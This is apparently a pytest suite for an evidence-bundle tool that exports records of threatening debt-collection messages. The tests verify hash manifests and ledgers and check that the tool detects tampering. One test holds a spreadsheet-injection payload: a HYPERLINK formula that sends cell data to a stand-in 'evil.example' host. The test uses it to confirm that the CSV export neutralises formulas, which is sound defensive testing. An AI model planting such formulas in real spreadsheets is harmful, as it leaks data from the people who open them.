"""Evidence bundles: export a case, verify without the database, and catch every tampering."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import hashlib
import html
import io
import itertools
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree as ET
from xml.sax.saxutils import quoteattr

import pytest
import typer
from typer.testing import CliRunner

from collectguard import __version__
from collectguard.evidence import open_store
from collectguard.evidence.bundle import export_bundle, verify_bundle
from collectguard.evidence.cli import evidence_app
from collectguard.evidence.errors import EvidenceError
from collectguard.evidence.history import build_cases
from collectguard.evidence.ingest import Importer
from collectguard.evidence.store import EvidenceStore
from collectguard.rules import load_builtin

CN = dt.timezone(dt.timedelta(hours=8))
THREAT = "【招联金融】您的借款已逾期，今天再不还款就上门，通知你的家人和单位。"
PLAIN = "【招联金融】您已逾期3天，请还款"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(64))


def ms(d: int, h: int) -> int:
    return int(dt.datetime(2025, 1, d, h, tzinfo=CN).timestamp() * 1000)


@pytest.fixture
def store(tmp_path: Path) -> EvidenceStore:
    s = open_store(f"sqlite:///{tmp_path / 'e.sqlite3'}")  # attachments beside the file
    f = tmp_path / "b.xml"
    f.write_text(
        "<?xml version='1.0' encoding='UTF-8'?>\n<smses>\n"
        f'<sms address="10690000" date="{ms(14, 23)}" type="1" body="{THREAT}" />\n'
        f'<sms address="10690000" date="{ms(15, 9)}" type="1" body="{PLAIN}" />\n'
        f'<mms date="{ms(16, 12)}" msg_box="1" address="10690000"><parts>'
        '<part ct="text/plain" text="【招联金融】您已逾期，见附件律师函，再不还款就上门" />'
        f'<part ct="image/png" cl="a.png" data="{base64.b64encode(PNG).decode()}" />'
        "</parts></mms>\n</smses>\n",
        encoding="utf-8",
    )
    Importer(s).import_file(f)
    return s


def export(store: EvidenceStore, path: Path) -> dict[str, object]:
    pack = load_builtin("cn")
    case = build_cases(store, pack)[0]
    return export_bundle(
        store,
        case,
        path,
        pack=pack,
        zone="Asia/Shanghai",
        letters=(("lender_complaint", "zh"), ("cfpb_narrative", "en")),
        letter_pdf=False,
    )


def test_export_and_verify(store: EvidenceStore, tmp_path: Path) -> None:
    path = tmp_path / "case.zip"
    manifest = export(store, path)
    head = store.ledger.head()
    assert head is not None
    assert manifest["chain_head"] == head.entry_hash
    assert manifest["tool_version"] == __version__
    assert str(manifest["rule_pack"]).startswith("cn@")
    with zipfile.ZipFile(path) as z:
        names = set(z.namelist())
        digest = hashlib.sha256(PNG).hexdigest()
        assert {
            "manifest.json",
            "items.jsonl",
            "ledger.jsonl",
            "messages.csv",
            "report.pdf",
            "letters/lender_complaint.zh.md",
            "letters/cfpb_narrative.en.md",
            f"attachments/{digest}",
        } == names
        assert z.read(f"attachments/{digest}") == PNG
        rows = list(csv.DictReader(io.StringIO(z.read("messages.csv").decode("utf-8-sig"))))
        assert [r["kind"] for r in rows] == ["message"] * 3
        assert rows[0]["text"] == THREAT and "cn.hours" in rows[0]["rules"]
        assert rows[0]["time_local"].startswith("2025-01-14T23:00")
        for meta in json.loads(z.read("manifest.json"))["files"]:
            assert hashlib.sha256(z.read(meta["path"])).hexdigest() == meta["sha256"]
        report_pdf = z.read("report.pdf")
    report = verify_bundle(path, expected_head=head.entry_hash)
    assert report.ok, report.problems
    assert not verify_bundle(path, expected_head="f" * 64).ok
    # a head noted before the last items were stored is still in the chain: it passes
    older = list(store.ledger.entries())[-2].entry_hash
    grown = verify_bundle(path, expected_head=older)
    assert grown.ok and grown.after_head == 1 and "1 entries after" in grown.describe()
    assert (report.items, report.entries) == (4, 4)  # 3 messages + 1 attachment
    pdftotext = shutil.which("pdftotext")
    if pdftotext is None:
        pytest.fail("pdftotext not found: `.ci/run` installs poppler-utils")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(report_pdf)
    text = subprocess.run([pdftotext, str(pdf), "-"], capture_output=True, text=True).stdout
    assert "证据报告 / Evidence report" in text and "22:00–08:00" in text
    # the per-day chart: a slot for each day of the span, its caption and legend
    assert "3 days, one bar per day" in text and "共 3 天，每格一天" in text
    assert all(day in text for day in ("01-14", "01-15", "01-16")) and "短信 SMS" in text
    assert head.entry_hash[:32] in text.replace("\n", "")


def rewrite(path: Path, change: Callable[[dict[str, bytes]], None], *, fix_manifest: bool) -> None:
    with zipfile.ZipFile(path) as z:
        files = {n: z.read(n) for n in z.namelist()}
    change(files)
    if fix_manifest:  # an attacker who also updates the manifest's hashes
        manifest = json.loads(files["manifest.json"])
        manifest["files"] = [
            {"path": n, "sha256": hashlib.sha256(d).hexdigest(), "size": len(d)}
            for n, d in sorted(files.items())
            if n != "manifest.json"
        ]
        files["manifest.json"] = json.dumps(manifest).encode()
    with zipfile.ZipFile(path, "w") as z:
        for n, d in files.items():
            z.writestr(n, d)


def _edit_text(files: dict[str, bytes]) -> None:
    lines = files["items.jsonl"].decode().splitlines()
    item = json.loads(lines[0])
    item["content"]["text"] = "我已经还清了"
    lines[0] = json.dumps(item, ensure_ascii=False)
    files["items.jsonl"] = ("\n".join(lines) + "\n").encode()


def _drop_last_entry(files: dict[str, bytes]) -> None:
    lines = files["ledger.jsonl"].decode().splitlines()
    files["ledger.jsonl"] = ("\n".join(lines[:-1]) + "\n").encode()


def _edit_entry(files: dict[str, bytes]) -> None:
    lines = files["ledger.jsonl"].decode().splitlines()
    entry = json.loads(lines[1])
    entry["payload"]["source_sha256"] = "0" * 64
    lines[1] = json.dumps(entry)
    files["ledger.jsonl"] = ("\n".join(lines) + "\n").encode()


def _drop_first_item(files: dict[str, bytes]) -> None:
    lines = files["items.jsonl"].decode().splitlines()
    files["items.jsonl"] = ("\n".join(lines[1:]) + "\n").encode()


def _drop_first_item_and_count(files: dict[str, bytes]) -> None:
    _drop_first_item(files)
    manifest = json.loads(files["manifest.json"])
    manifest["items"] -= 1
    files["manifest.json"] = json.dumps(manifest).encode()


def _drop_first_csv_row(files: dict[str, bytes]) -> None:
    lines = files["messages.csv"].decode("utf-8-sig").splitlines()
    files["messages.csv"] = ("\r\n".join([lines[0], *lines[2:]]) + "\r\n").encode("utf-8-sig")


def _retype_ledger_seq(files: dict[str, bytes]) -> None:
    lines = files["ledger.jsonl"].decode().splitlines()
    entry = json.loads(lines[1])
    entry["seq"] = str(entry["seq"])  # "2": compared with numbers, it crashed the check
    lines[1] = json.dumps(entry)
    files["ledger.jsonl"] = ("\n".join(lines) + "\n").encode()


def _list_as_item_id(files: dict[str, bytes]) -> None:
    lines = files["items.jsonl"].decode().splitlines()
    item = json.loads(lines[0])
    item["item_id"] = [item["item_id"]]  # unhashable: it crashed the lookup
    lines[0] = json.dumps(item, ensure_ascii=False)
    files["items.jsonl"] = ("\n".join(lines) + "\n").encode()


def _files_not_a_list(files: dict[str, bytes]) -> None:
    manifest = json.loads(files["manifest.json"])
    manifest["files"] = {"ledger.jsonl": "…"}
    files["manifest.json"] = json.dumps(manifest).encode()


@pytest.mark.parametrize(
    ("change", "fix_manifest", "expected"),
    [
        (_retype_ledger_seq, True, "ledger.jsonl 第2行 / line 2: 无法读取 / unreadable (seq is"),
        (_list_as_item_id, True, "not in the ledger (inserted)"),
        (_files_not_a_list, False, "manifest.json lists no files"),
        (lambda f: f.update({"messages.csv": f["messages.csv"] + b"x"}), False, "messages.csv: "),
        (lambda f: f.pop("report.pdf"), False, "report.pdf: 文件缺失 / missing (deleted)"),
        (lambda f: f.update({"extra.txt": b"hi"}), False, "extra.txt: 清单外的文件"),
        (_edit_text, True, "items.jsonl 第1行 / line 1: message 1 与账本不符 / differs"),
        (_edit_entry, True, "账本 / ledger #2: 被修改 / edited"),
        (_drop_last_entry, True, "deleted"),
        # an item taken out of items.jsonl alone: the manifest and messages.csv still hold it
        (_drop_first_item, True, "items.jsonl holds 3 items, the manifest says 4"),
        (_drop_first_item, True, "messages.csv lists message 1, which items.jsonl lacks"),
        (_drop_first_item_and_count, True, "messages.csv lists message 1, which items.jsonl"),
        (_drop_first_csv_row, True, "items.jsonl holds message 1, which messages.csv does not"),
        (lambda f: f.update({"messages.csv": b"kind,id\n\x00x,1\n"}), True, "messages.csv "),
    ],
)
def test_verify_bundle_names_the_tampering(
    store: EvidenceStore,
    tmp_path: Path,
    change: Callable[[dict[str, bytes]], None],
    fix_manifest: bool,
    expected: str,
) -> None:
    path = tmp_path / "case.zip"
    export(store, path)
    rewrite(path, change, fix_manifest=fix_manifest)
    report = verify_bundle(path)
    assert not report.ok
    assert any(expected in p for p in report.problems), report.problems


def test_cli_export_and_verify_bundle(store: EvidenceStore, tmp_path: Path) -> None:
    db = store.engine.url.database
    assert db is not None
    store.close()
    app = typer.Typer()
    app.add_typer(evidence_app, name="evidence")
    runner = CliRunner()
    out = tmp_path / "case.zip"
    r = runner.invoke(
        app,
        [
            "evidence",
            "export",
            "zhaolian_cfc",
            "-o",
            str(out),
            "--db",
            db,
            "--letter",
            "police_report:en",
        ],
    )
    assert r.exit_code == 0, r.stderr
    with zipfile.ZipFile(out) as z:
        assert "letters/police_report.en.pdf" in z.namelist()
    r = runner.invoke(app, ["evidence", "verify-bundle", str(out), "--json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["ok"] is True
    rewrite(out, lambda f: f.update({"messages.csv": b"forged"}), fix_manifest=False)
    r = runner.invoke(app, ["evidence", "verify-bundle", str(out)])
    assert r.exit_code == 1 and "messages.csv" in r.stdout
    (tmp_path / "junk.zip").write_bytes(b"not a zip")
    r = runner.invoke(app, ["evidence", "verify-bundle", str(tmp_path / "junk.zip")])
    assert r.exit_code == 2 and "not a readable bundle" in r.stderr


def test_case_attachments_go_into_bundle_and_letters(store: EvidenceStore, tmp_path: Path) -> None:
    from collectguard.evidence.letters import letter_context, render_letter

    audio = tmp_path / "call.m4a"
    audio.write_bytes(b"fake audio of a threatening call")
    Importer(store).import_attachment(audio, case_key="zhaolian_cfc", note="威胁电话录音")
    digest = hashlib.sha256(audio.read_bytes()).hexdigest()
    path = tmp_path / "case.zip"
    manifest = export(store, path)
    assert manifest["items"] == 5
    with zipfile.ZipFile(path) as z:
        assert z.read(f"attachments/{digest}") == audio.read_bytes()
    assert verify_bundle(path).ok
    pack = load_builtin("cn")
    case = build_cases(store, pack)[0]
    md = render_letter(
        "lender_complaint", "zh", letter_context(store, case, pack=pack, zone="Asia/Shanghai")
    ).markdown
    assert digest in md and "威胁电话录音" in md and "附件" in md


def test_texts_with_unicode_line_separators_verify(tmp_path: Path) -> None:
    """A message holding U+2028, U+2029 or U+0085 (pasted from the web, or an evasion) is one
    JSON line in the bundle: verify-bundle split lines at them too and crashed."""
    store = open_store(f"sqlite:///{tmp_path / 'e.sqlite3'}")
    rows = [
        {"text": f"【招联金融】您已逾期{sep}再不还款就通知你的家人和单位", "sender": "10690000",
         "received_at": f"2025-01-{14 + i}T23:15:00+08:00"}
        for i, sep in enumerate(["\u2028", "\u2029", "\x85"])
    ]  # fmt: skip
    f = tmp_path / "m.jsonl"
    f.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    assert Importer(store).import_file(f).new == 3
    path = tmp_path / "case.zip"
    export(store, path)
    report = verify_bundle(path)
    assert report.ok, report.problems
    assert report.items == 3
    with zipfile.ZipFile(path) as z:  # the texts are in the bundle as they were received
        texts = [json.loads(line)["content"]["text"] for line in z.read("items.jsonl").split(b"\n")
                 if line]  # fmt: skip
    assert sorted(texts) == sorted(r["text"] for r in rows)
    store.close()


def test_export_streams_photos_and_the_ledger(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Photos are copied into the zip from disk in blocks: a case with 24 MiB of photos
    exports in a few MiB (they were all held in memory while the PDFs rendered)."""
    import tracemalloc

    import collectguard.evidence.bundle as bundle

    store = open_store(f"sqlite:///{tmp_path / 'e.sqlite3'}")
    rng = __import__("random").Random(5)
    parts = "".join(
        f'<mms date="{ms(16, 12 + i)}" msg_box="1" address="10690000"><parts>'
        '<part ct="text/plain" text="【招联金融】您已逾期，见附件律师函，再不还款就上门" />'
        f'<part ct="image/jpeg" cl="p{i}.jpg" '
        f'data="{base64.b64encode(rng.randbytes(8 << 20)).decode()}" /></parts></mms>\n'
        for i in range(3)
    )
    f = tmp_path / "photos.xml"
    f.write_text(f"<?xml version='1.0' encoding='UTF-8'?>\n<smses>\n{parts}</smses>\n")
    assert Importer(store).import_file(f).new_by_kind["attachment"] == 3
    pack = load_builtin("cn")
    case = build_cases(store, pack)[0]
    path = tmp_path / "case.zip"
    # The PDF renderer's own memory (tens of MiB, and noisy) is not what this measures:
    # here it writes a stand-in file; the real rendering is tested above.
    monkeypatch.setattr(bundle, "html_to_pdf", lambda html, out: out.write_bytes(b"%PDF-1.4"))
    tracemalloc.start()
    try:
        manifest = export_bundle(store, case, path, pack=pack, zone="Asia/Shanghai", letters=())
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    photos = [m for m in manifest["files"] if m["path"].startswith("attachments/")]
    assert len(photos) == 3 and all(m["size"] == 8 << 20 for m in photos)
    assert verify_bundle(path).ok
    assert peak < 8 << 20, peak  # never the 24 MiB of photos at once
    store.close()


def test_a_damaged_zip_member_is_reported_not_raised(store: EvidenceStore, tmp_path: Path) -> None:
    path = tmp_path / "case.zip"
    export(store, path)
    with zipfile.ZipFile(path) as z:
        info = z.getinfo("ledger.jsonl")
        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raw = bytearray(path.read_bytes())
    raw[start + info.compress_size // 2] ^= 0xFF  # one byte of its compressed data
    path.write_bytes(bytes(raw))
    report = verify_bundle(path)  # was: zipfile.BadZipFile / zlib.error out of verify
    assert not report.ok
    assert any(p.startswith("ledger.jsonl: ") and "damaged" in p for p in report.problems), (
        report.problems
    )


@pytest.mark.parametrize("manifest", [b"[1, 2]", b'"manifest"'])
def test_a_manifest_that_is_not_an_object_is_a_clear_error(
    store: EvidenceStore, tmp_path: Path, manifest: bytes
) -> None:
    path = tmp_path / "case.zip"
    export(store, path)
    rewrite(path, lambda f: f.update({"manifest.json": manifest}), fix_manifest=False)
    with pytest.raises(EvidenceError, match="not an object"):
        verify_bundle(path)


def test_every_member_is_dated_with_the_export(store: EvidenceStore, tmp_path: Path) -> None:
    path = tmp_path / "case.zip"
    export(store, path)
    with zipfile.ZipFile(path) as z:
        years = {i.filename: i.date_time[0] for i in z.infolist()}
        methods = {i.compress_type for i in z.infolist()}
    # streamed members (the ledger, attachments) were dated 1980-01-01 and stored apart
    assert set(years.values()) == {dt.datetime.now().year}, years
    assert methods == {zipfile.ZIP_DEFLATED}


def test_spreadsheet_formulas_in_texts_stay_text_in_messages_csv(tmp_path: Path) -> None:
    """messages.csv opens in Excel; a collector controls the text and the sender shown there:
    a cell that starts like a formula must not run. items.jsonl keeps the exact text."""
    s = open_store(f"sqlite:///{tmp_path / 'e.sqlite3'}")
    formula = (
        '=HYPERLINK("http://evil.example/?x="&A1,"点我") 【招联金融】您的借款已逾期，再不还款就上门'
    )
    f = tmp_path / "b.xml"
    f.write_text(
        "<?xml version='1.0' encoding='UTF-8'?>\n<smses>\n"
        f'<sms address="+8610690000" date="{ms(14, 23)}" type="1" body={quoteattr(formula)} />\n'
        f'<sms address="10690000" date="{ms(15, 9)}" type="1" body="{THREAT}" />\n'
        "</smses>\n",
        encoding="utf-8",
    )
    Importer(s).import_file(f)
    path = tmp_path / "case.zip"
    export(s, path)
    with zipfile.ZipFile(path) as z:
        rows = list(csv.DictReader(io.StringIO(z.read("messages.csv").decode("utf-8-sig"))))
        items = [json.loads(line) for line in z.read("items.jsonl").decode().splitlines()]
    s.close()
    by_text = {r["text"]: r for r in rows}
    assert "'" + formula in by_text and by_text["'" + formula]["party"] == "'+8610690000"
    assert by_text[THREAT]["party"] == "10690000"  # ordinary values are left as they are
    assert formula in [i["content"]["text"] for i in items if i["item"] == "message"]
    assert verify_bundle(path).ok


def test_the_report_lists_the_first_and_last_rows_of_a_long_timeline(
    store: EvidenceStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    """report.pdf's table grows WeasyPrint's memory with every row (3,000: 675 MiB): a long
    timeline shows its first and last rows and says where the rest is."""
    from collectguard.evidence import bundle

    pack = load_builtin("cn")
    case = build_cases(store, pack)[0]
    assert len(case.timeline) == 3
    full = bundle.report_html(case, pack, "Asia/Shanghai", chain_head="0" * 64, created="t")
    monkeypatch.setattr(bundle, "REPORT_MAX_ROWS", 2)
    cut = bundle.report_html(case, pack, "Asia/Shanghai", chain_head="0" * 64, created="t")
    timeline = cut.split('class="timeline"', 1)[1]
    assert timeline.count("<tr><td>") == 2  # the first and the last item
    assert "中间 1 条未列出" in cut and "1 items in between are not listed" in cut
    assert "(3 in all)" in cut and "messages.csv" in timeline
    assert full.split('class="timeline"', 1)[1].count("<tr><td>") == 3
    first, last = case.timeline[0], case.timeline[-1]
    assert html.escape(first.summary) in timeline and html.escape(last.summary) in timeline


# ---------------------------------------------------------------------------- the charts
SVG = "{http://www.w3.org/2000/svg}"


def _chart(per_day: dict[str, dict[str, int]]) -> ET.Element:
    from collectguard.evidence.bundle import _svg_per_day

    svg = _svg_per_day(per_day)
    for external in ("href", "<script", "@import", "@font-face", "url("):
        assert external not in svg  # self-contained
    return ET.fromstring(svg)


def _slots(root: ET.Element) -> list[tuple[str, float, float]]:
    """(date, sms bar height, call bar height) of every slot, in order."""
    out = []
    for g in root.iter(f"{SVG}g"):
        if g.get("class") != "slot":
            continue
        title = g.find(f"{SVG}title")
        assert title is not None and title.text
        bars = {r.get("class"): float(r.get("height", "nan")) for r in g.iter(f"{SVG}rect")}
        out.append((title.text.split(":")[0], bars["sms"], bars["call"]))
    return out


def _ticks(root: ET.Element) -> list[tuple[float, str]]:
    return [
        (float(t.get("x", "nan")), t.text or "")
        for t in root.iter(f"{SVG}text")
        if t.get("class") == "tick"
    ]


def _caption(root: ET.Element) -> str:
    return "".join(t.text or "" for t in root.iter(f"{SVG}text") if t.get("class") != "tick")


def _no_overlap(ticks: list[tuple[float, str]]) -> None:
    xs = [x for x, _ in ticks]
    assert xs == sorted(xs)
    widest = max(len(label) for _, label in ticks) * 7 * 0.6  # font-size 7
    assert all(b - a >= widest for a, b in itertools.pairwise(xs)), ticks


def _day(d: dt.date, sms: int = 1, call: int = 0) -> tuple[str, dict[str, int]]:
    return d.isoformat(), {"sms": sms, "call": call}


def test_per_day_chart_has_a_slot_for_every_day_of_the_span() -> None:
    """11-03, 11-05, 11-07, 11-08 were drawn as four adjacent bars, like consecutive days."""
    root = _chart(
        {
            "2025-11-03": {"sms": 4, "call": 2},
            "2025-11-05": {"sms": 1, "call": 0},
            "2025-11-07": {"sms": 0, "call": 3},
            "2025-11-08": {"sms": 2, "call": 2},
        }
    )
    slots = _slots(root)
    assert [d for d, _, _ in slots] == [f"2025-11-0{i}" for i in range(3, 9)]
    heights = {d: (s, c) for d, s, c in slots}
    assert heights["2025-11-04"] == heights["2025-11-06"] == (0.0, 0.0)  # no contacts
    assert all(s + c > 0 for d, s, c in slots if d not in ("2025-11-04", "2025-11-06"))
    assert heights["2025-11-03"][0] == 2 * heights["2025-11-03"][1]  # 4 sms, 2 calls
    assert heights["2025-11-05"][1] == 0 and heights["2025-11-07"][0] == 0
    # the slots are evenly spaced: a gap day takes a bar's width
    xs = [float(r.get("x", "nan")) for r in root.iter(f"{SVG}rect") if r.get("class") == "sms"]
    steps = [b - a for a, b in itertools.pairwise(xs)]
    assert max(steps) - min(steps) < 0.2, steps
    assert [label for _, label in _ticks(root)] == [f"11-0{i}" for i in range(3, 9)]
    assert "2025-11-03 – 2025-11-08" in _caption(root) and "6 days" in _caption(root)


def test_per_day_chart_legend_has_coloured_swatches() -> None:
    """The legend's ■ were text glyphs, printed black."""
    root = _chart({"2025-11-03": {"sms": 4, "call": 2}})
    rects = list(root.iter(f"{SVG}rect"))
    swatches = {
        kind: r.get("fill")
        for r in rects
        for kind in ("sms", "call")
        if (r.get("class") or "").split() == ["swatch", kind]
    }
    bars = {r.get("class"): r.get("fill") for r in rects if r.get("class") in ("sms", "call")}
    assert swatches == bars and len(set(bars.values())) == 2
    assert all(fill and fill.startswith("#") and fill != "#000000" for fill in bars.values())
    assert "■" not in ET.tostring(root, encoding="unicode")
    caption = _caption(root)
    assert "短信 SMS" in caption and "来电 calls" in caption


def test_per_day_chart_labels_do_not_overlap() -> None:
    start = dt.date(2025, 1, 1)  # a Wednesday
    for span in (1, 2, 14, 20, 31, 45, 60, 92):
        root = _chart(dict(_day(start + dt.timedelta(i)) for i in (0, span - 1)))
        slots, ticks = _slots(root), _ticks(root)
        assert len(slots) == span, span
        assert ticks and (len(ticks) == span or span > 16)
        _no_overlap(ticks)
        if span > 60:  # labelled by week: on Mondays
            assert all(
                dt.date.fromisoformat(f"2025-{label}").weekday() == 0 for _, label in ticks
            ), ticks


def test_a_long_span_is_totalled_per_week_or_month() -> None:
    """A three-year case drew a thousand hairline bars; per week up to about two years,
    per month beyond, and the caption says so."""
    rng = __import__("random").Random(7)
    first, last = dt.date(2022, 1, 10), dt.date(2024, 12, 20)
    days = {first, last} | {first + dt.timedelta(rng.randrange(1076)) for _ in range(300)}
    per_day = {d.isoformat(): {"sms": rng.randrange(5), "call": rng.randrange(3)} for d in days}
    from collectguard.evidence.bundle import _svg_per_day

    svg = _svg_per_day(per_day)
    assert len(svg) < 20_000, len(svg)
    root = _chart(per_day)
    slots = _slots(root)
    months = [f"{y}-{m:02d}-01" for y in (2022, 2023, 2024) for m in range(1, 13)]
    assert [d for d, _, _ in slots] == months
    caption = _caption(root)
    assert "每格一月合计" in caption and "one bar per month" in caption
    assert caption.index("每格一月合计") < caption.index("one bar per month")  # zh-CN first
    assert f"{(last - first).days + 1} days" in caption
    ticks = _ticks(root)
    _no_overlap(ticks)
    assert 4 <= len(ticks) <= 20
    # the totals are kept: the tallest bar is the busiest month
    totals: dict[str, int] = {}
    for d, v in per_day.items():
        totals[d[:7]] = totals.get(d[:7], 0) + v["sms"] + v["call"]
    tallest = max(slots, key=lambda s: s[1] + s[2])
    assert totals[tallest[0][:7]] == max(totals.values())
    # about a year: per week (from Monday)
    weekly = {d: v for d, v in per_day.items() if d < "2023-01-01"}
    root = _chart(weekly)
    slots = _slots(root)
    assert "one bar per week" in _caption(root) and "每格一周" in _caption(root)
    assert all(dt.date.fromisoformat(d).weekday() == 0 for d, _, _ in slots)
    first_day, last_day = (dt.date.fromisoformat(d) for d in (min(weekly), max(weekly)))
    monday = first_day - dt.timedelta(first_day.weekday())
    assert len(slots) == (last_day - monday).days // 7 + 1 > 45
    _no_overlap(_ticks(root))


def test_per_day_chart_skips_what_is_not_a_date() -> None:
    from collectguard.evidence.bundle import _svg_per_day

    assert _svg_per_day({}) == ""
    assert _svg_per_day({"<script>": {"sms": 1, "call": 0}}) == ""
    root = _chart({"<b>": {"sms": 1, "call": 0}, "2025-11-03": {"sms": 1, "call": 0}})
    assert len(_slots(root)) == 1


def test_a_wrong_year_does_not_make_a_thousand_bars() -> None:
    """One date decades off (a phone whose clock was reset to 1970) spans 55 years."""
    from collectguard.evidence.bundle import _svg_per_day

    per_day = {"1970-01-01": {"sms": 1, "call": 0}, "2025-11-03": {"sms": 3, "call": 1}}
    assert len(_svg_per_day(per_day)) < 20_000
    root = _chart(per_day)
    slots = _slots(root)
    assert [d for d, _, _ in slots] == [f"{y}-01-01" for y in range(1970, 2026)]
    assert "每格一年合计" in _caption(root) and "one bar per year" in _caption(root)
    _no_overlap(_ticks(root))
    assert all(int(label) % 5 == 0 for _, label in _ticks(root))
